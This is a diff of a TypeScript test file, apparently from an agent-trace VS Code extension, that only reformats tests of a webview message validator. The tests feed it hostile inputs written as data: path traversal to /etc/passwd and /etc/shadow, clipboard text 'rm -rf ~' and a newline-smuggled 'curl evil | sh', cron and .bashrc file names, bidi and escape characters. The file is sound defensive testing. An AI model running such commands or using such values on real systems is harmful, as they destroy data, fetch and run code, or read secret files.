@@ -32,7 +32,15 @@ describe('checkWebviewNotification', () => {
   });
 
   it('refuses a path where the host wants a file index: traversal with / and \\, absolute paths, a neighbour of the workspace', () => {
-    for (const file of ['../../../../etc/passwd', '..\\..\\..\\Windows\\win.ini', '/etc/shadow', 'C:\\Windows\\System32\\drivers\\etc\\hosts', '../secret.txt', 'claude/../../x', '0']) {
+    for (const file of [
+      '../../../../etc/passwd',
+      '..\\..\\..\\Windows\\win.ini',
+      '/etc/shadow',
+      'C:\\Windows\\System32\\drivers\\etc\\hosts',
+      '../secret.txt',
+      'claude/../../x',
+      '0',
+    ]) {
       assert.match(refused({ type: 'source/revealLine', file, line: 0 }), /file .* is not a whole number/);
     }
   });
@@ -45,10 +53,19 @@ describe('checkWebviewNotification', () => {
     assert.match(refused({ type: 'source/revealLine', file: 0.5, line: 0 }), /file/);
     assert.match(refused({ type: 'source/revealLine', file: 0, line: NaN }), /line/);
     assert.match(refused({ type: 'source/revealLine', file: 0, line: Infinity }), /line/);
-    assert.match(refused({ type: 'source/reveal', ref: { sessionId: 's', callIndex: 1e308 }, toolId: null }), /ref\.callIndex/);
-    assert.match(refused({ type: 'source/reveal', ref: { sessionId: 7, callIndex: 1 }, toolId: null }), /ref\.sessionId is not a string/);
+    assert.match(
+      refused({ type: 'source/reveal', ref: { sessionId: 's', callIndex: 1e308 }, toolId: null }),
+      /ref\.callIndex/,
+    );
+    assert.match(
+      refused({ type: 'source/reveal', ref: { sessionId: 7, callIndex: 1 }, toolId: null }),
+      /ref\.sessionId is not a string/,
+    );
     assert.match(refused({ type: 'source/reveal', ref: null, toolId: null }), /ref is not an object/);
-    assert.match(refused({ type: 'source/reveal', ref: { sessionId: 'x'.repeat(5000), callIndex: 1 }, toolId: null }), /longer than 4096/);
+    assert.match(
+      refused({ type: 'source/reveal', ref: { sessionId: 'x'.repeat(5000), callIndex: 1 }, toolId: null }),
+      /longer than 4096/,
+    );
     assert.match(refused({ type: 'format/choose', format: '../../etc' }), /not a known format/);
     assert.match(refused({ type: 'clipboard/write', text: 42 }), /text is not a string/);
     assert.match(refused({ type: 'whatif/export', fileName: 'x.json', json: 'not json' }), /not valid JSON/);
@@ -58,7 +75,7 @@ describe('checkWebviewNotification', () => {
     assert.match(refused({ type: 'load/retry' }), /ignoreSizeLimit/);
   });
 
-  it('puts only the panel\'s own simulate command on the clipboard, on one line', () => {
+  it("puts only the panel's own simulate command on the clipboard, on one line", () => {
     assert.match(refused({ type: 'clipboard/write', text: 'rm -rf ~' }), /not an agent-trace simulate command/);
     assert.match(refused({ type: 'clipboard/write', text: 'agent-trace simulate x\ncurl evil | sh' }), /on one line/);
     assert.match(refused({ type: 'clipboard/write', text: 'agent-trace simulate x\u001b]0;t\u0007' }), /on one line/);
@@ -80,22 +97,59 @@ describe('checkWebviewNotification', () => {
       'agent-trace simulate ~/x.jsonl',
       'agent-trace simulate x‮',
     ]) {
-      assert.match(refused({ type: 'clipboard/write', text }), /not an agent-trace simulate command of plain or single-quoted words/, text);
+      assert.match(
+        refused({ type: 'clipboard/write', text }),
+        /not an agent-trace simulate command of plain or single-quoted words/,
+        text,
+      );
     }
     // The forms the panel writes (shellWord) split back to the words it quoted.
-    assert.deepEqual(shellWords("agent-trace simulate '/home/me/it'\\''s a.jsonl' --gpus 4 --router kv-aware"), ['agent-trace', 'simulate', "/home/me/it's a.jsonl", '--gpus', '4', '--router', 'kv-aware']);
-    assert.deepEqual(shellWords('agent-trace simulate C:/x.jsonl --sweep gpus=1,2,4'), ['agent-trace', 'simulate', 'C:/x.jsonl', '--sweep', 'gpus=1,2,4']);
+    assert.deepEqual(shellWords("agent-trace simulate '/home/me/it'\\''s a.jsonl' --gpus 4 --router kv-aware"), [
+      'agent-trace',
+      'simulate',
+      "/home/me/it's a.jsonl",
+      '--gpus',
+      '4',
+      '--router',
+      'kv-aware',
+    ]);
+    assert.deepEqual(shellWords('agent-trace simulate C:/x.jsonl --sweep gpus=1,2,4'), [
+      'agent-trace',
+      'simulate',
+      'C:/x.jsonl',
+      '--sweep',
+      'gpus=1,2,4',
+    ]);
   });
 
   it('refuses an export name with a folder, a leading dot or control characters (the host names the file after its trace anyway)', () => {
-    for (const fileName of ['../../.bashrc.json', '/etc/cron.d/x.json', '..\\..\\x.json', '.hidden.json', '..json', 'x.whatif.sh', 'a\u202eno.json', 'x\u0000.json', 'dir/x.json', '']) {
-      assert.match(refused({ type: 'whatif/export', fileName, json: '{}' }), /fileName is not a plain file name ending in \.json/, JSON.stringify(fileName));
+    for (const fileName of [
+      '../../.bashrc.json',
+      '/etc/cron.d/x.json',
+      '..\\..\\x.json',
+      '.hidden.json',
+      '..json',
+      'x.whatif.sh',
+      'a\u202eno.json',
+      'x\u0000.json',
+      'dir/x.json',
+      '',
+    ]) {
+      assert.match(
+        refused({ type: 'whatif/export', fileName, json: '{}' }),
+        /fileName is not a plain file name ending in \.json/,
+        JSON.stringify(fileName),
+      );
     }
-    for (const fileName of ['my session 2.whatif.json', 'sessão.whatif.json']) assert.equal(checkWebviewNotification({ type: 'whatif/export', fileName, json: '{}' }).ok, true, fileName);
+    for (const fileName of ['my session 2.whatif.json', 'sessão.whatif.json'])
+      assert.equal(checkWebviewNotification({ type: 'whatif/export', fileName, json: '{}' }).ok, true, fileName);
   });
 
   it('refuses unknown types and things that are not messages', () => {
-    assert.match(refused({ type: 'workbench/runCommand', command: 'workbench.action.terminal.sendSequence' }), /unknown message type "workbench\/runCommand"/);
+    assert.match(
+      refused({ type: 'workbench/runCommand', command: 'workbench.action.terminal.sendSequence' }),
+      /unknown message type "workbench\/runCommand"/,
+    );
     assert.match(refused({ type: '__proto__' }), /unknown message type/);
     assert.match(refused({ type: 7 }), /type is not a string/);
     assert.match(refused(null), /not an object/);
@@ -106,9 +160,18 @@ describe('checkWebviewNotification', () => {
 
 describe('checkRequestParams', () => {
   it('checks callDetail and whatIfWorkload params, refuses the rest', () => {
-    assert.deepEqual(checkRequestParams('callDetail', { sessionId: 's', callIndex: 2 }), { ok: true, value: { sessionId: 's', callIndex: 2 } });
+    assert.deepEqual(checkRequestParams('callDetail', { sessionId: 's', callIndex: 2 }), {
+      ok: true,
+      value: { sessionId: 's', callIndex: 2 },
+    });
     assert.deepEqual(checkRequestParams('whatIfWorkload', { sessionId: 's' }), { ok: true, value: { sessionId: 's' } });
-    for (const bad of [{ sessionId: 's', callIndex: -1 }, { sessionId: 's', callIndex: '2' }, { sessionId: 's' }, null, { sessionId: 's', callIndex: 1e308 }]) {
+    for (const bad of [
+      { sessionId: 's', callIndex: -1 },
+      { sessionId: 's', callIndex: '2' },
+      { sessionId: 's' },
+      null,
+      { sessionId: 's', callIndex: 1e308 },
+    ]) {
       assert.equal(checkRequestParams('callDetail', bad).ok, false, JSON.stringify(bad));
     }
     assert.equal(checkRequestParams('whatIfWorkload', { sessionId: 12 }).ok, false);
@@ -117,7 +180,12 @@ describe('checkRequestParams', () => {
 });
 
 describe('checkRequestParams: what the page asks to draw (issue 15)', () => {
-  const ok = (method: Parameters<typeof checkRequestParams>[0], params: unknown): void => assert.deepEqual(checkRequestParams(method, params), { ok: true, value: params }, `${method} ${JSON.stringify(params)}`);
+  const ok = (method: Parameters<typeof checkRequestParams>[0], params: unknown): void =>
+    assert.deepEqual(
+      checkRequestParams(method, params),
+      { ok: true, value: params },
+      `${method} ${JSON.stringify(params)}`,
+    );
   const no = (method: Parameters<typeof checkRequestParams>[0], params: unknown, why: RegExp): void => {
     const r = checkRequestParams(method, params);
     assert.equal(r.ok, false, `${method} ${JSON.stringify(params)}`);
@@ -171,20 +239,57 @@ describe('checkRequestParams: what the page asks to draw (issue 15)', () => {
 
 describe('the trace queries on the wire (TraceQueries, one name each)', () => {
   it('knows every query by its own name only: inherited names and the old noun/verb names are not queries', () => {
-    assert.deepEqual([...TRACE_QUERY_NAMES].sort(), ['callDetail', 'callRows', 'callsUsingTool', 'customTtl', 'search', 'sessionBody', 'sessionContext', 'sessionIntro', 'sessionList', 'toolRows']);
-    for (const name of ['constructor', '__proto__', 'toString', 'hasOwnProperty', 'calls/rows', 'session/intro', 'callTranscript', 'whatIfWorkload', 'header', 'report']) {
+    assert.deepEqual([...TRACE_QUERY_NAMES].sort(), [
+      'callDetail',
+      'callRows',
+      'callsUsingTool',
+      'customTtl',
+      'search',
+      'sessionBody',
+      'sessionContext',
+      'sessionIntro',
+      'sessionList',
+      'toolRows',
+    ]);
+    for (const name of [
+      'constructor',
+      '__proto__',
+      'toString',
+      'hasOwnProperty',
+      'calls/rows',
+      'session/intro',
+      'callTranscript',
+      'whatIfWorkload',
+      'header',
+      'report',
+    ]) {
       assert.equal(isTraceQuery(name), false, name);
     }
     assert.equal(checkRequestParams('constructor' as 'callRows', { sessionId: 's', from: 0, count: 1 }).ok, false);
   });
 
   it('turns a null that means "not there" into an error naming what is missing, and passes a null that is an answer', () => {
-    assert.throws(() => queryAnswer('sessionIntro', { sessionId: 'gone' }, null), /^Error: No session gone in this trace\.$/);
-    assert.throws(() => queryAnswer('sessionBody', { sessionId: 'gone' }, null), /^Error: No session gone in this trace\.$/);
-    assert.throws(() => queryAnswer('callDetail', { sessionId: 's', callIndex: 6 }, null), /^Error: No call 7 in session s\.$/);
-    assert.throws(() => queryAnswer('sessionContext', { sessionId: 'gone' }, null), /^Error: No session gone in this trace\.$/);
+    assert.throws(
+      () => queryAnswer('sessionIntro', { sessionId: 'gone' }, null),
+      /^Error: No session gone in this trace\.$/,
+    );
+    assert.throws(
+      () => queryAnswer('sessionBody', { sessionId: 'gone' }, null),
+      /^Error: No session gone in this trace\.$/,
+    );
+    assert.throws(
+      () => queryAnswer('callDetail', { sessionId: 's', callIndex: 6 }, null),
+      /^Error: No call 7 in session s\.$/,
+    );
+    assert.throws(
+      () => queryAnswer('sessionContext', { sessionId: 'gone' }, null),
+      /^Error: No session gone in this trace\.$/,
+    );
     // Hostile ids are made safe for the page's error line (uiText), as the host always did.
-    assert.throws(() => queryAnswer('callDetail', { sessionId: 'a\u202eb', callIndex: 0 }, null), (e: Error) => !e.message.includes('\u202e'));
+    assert.throws(
+      () => queryAnswer('callDetail', { sessionId: 'a\u202eb', callIndex: 0 }, null),
+      (e: Error) => !e.message.includes('\u202e'),
+    );
     // No prices: the cost panel's TTL row is null, an answer the page draws.
     assert.equal(queryAnswer('customTtl', { sessionId: 's', minutes: 60, writeMultiple: null }, null), null);
     const rows = [{ index: 0 }] as unknown as ReturnType<typeof queryAnswer<'callRows'>>;
